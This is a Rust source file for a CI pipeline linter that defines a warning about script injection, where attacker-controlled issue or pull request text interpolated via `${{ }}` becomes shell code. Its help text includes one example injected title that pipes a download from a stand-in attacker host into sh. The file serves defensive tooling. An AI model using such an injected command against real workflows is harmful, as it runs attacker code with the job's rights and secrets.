//! A value that strangers choose, as code.

use crate::diagnostics::{Code, Diag};
use crate::source::Span;

/// The code and its page.
pub static CODE: Code = Code {
    id: "W0707",
    title: "text of strangers in a script",
    page: r#"
GitHub writes the value of `${{ }}` into a script before the shell reads it. Whoever opens an issue or a pull request chooses its title, its text and the
name of its branch: a title such as `"; curl evil.example | sh; "` is run, with the rights and the secrets of the job.

Pipelay gives such expressions to variables by itself, as the pass `harden`, where it knows that the shell does the same with them. It does not
know so where the text is read as code once more, by `eval`, `bash -c`, `ssh` or an interpreter, in arithmetic, in a here-document without
expansion, in code of PowerShell and Python outside of texts, and in other shells than these, bash and sh. There the script has to be another. It follows a value through
pipes, variables, functions and files of a script; where it loses sight of it, and something there may read it as code, that is R0743.

It does not write the actions and workflows of the repository that are no specs: what they take as an input, and write into a script, has to be a variable there.

## Bad
```pipe
on issues

job greet: bash -c 'echo "${{ github.event.issue.title }}"'
```

## Good
```pipe
on issues

job greet: bash -c 'echo "$1"' greet "${{ github.event.issue.title }}"
```
"#,
};

/// `expr`, at `at`, is code in a script, which could have `asked` instead: a variable of the step's, or one that is to be given to it under the name `new`.
pub fn script_injection(expr: &str, new: Option<&str>, asked: &str, at: Span) -> Diag {
    Diag::new(&CODE, format!("whoever sets `{expr}` writes into the script"))
        .label(at, "becomes a part of the code")
        .help(variable_instead(expr, new, asked))
}

/// `expr`, at `at`, is given to an action or a workflow of the repository that writes its input `input` into a script.
pub fn script_of_a_file(expr: &str, uses: &str, input: &str, at: Span) -> Diag {
    let variable = input.to_uppercase().replace(|char: char| !char.is_ascii_alphanumeric(), "_");
    Diag::new(&CODE, format!("whoever sets `{expr}` writes into a script of `{uses}`"))
        .label(at, format!("`{input}` becomes a part of the code there"))
        .help(format!(
            "give the step there `env: {{ {variable}: ${{{{ inputs.{input} }}}} }}`, and its script the variable `{variable}`"
        ))
}

/// How the script gets at the value without its being code.
pub(super) fn variable_instead(expr: &str, new: Option<&str>, asked: &str) -> String {
    match new {
        Some(variable) => {
            format!("give the step `env {{ {variable}: ${{{{ {expr} }}}} }}`, and the script the variable: {asked}")
        }
        None => format!("give the script the variable: {asked}"),
    }
}
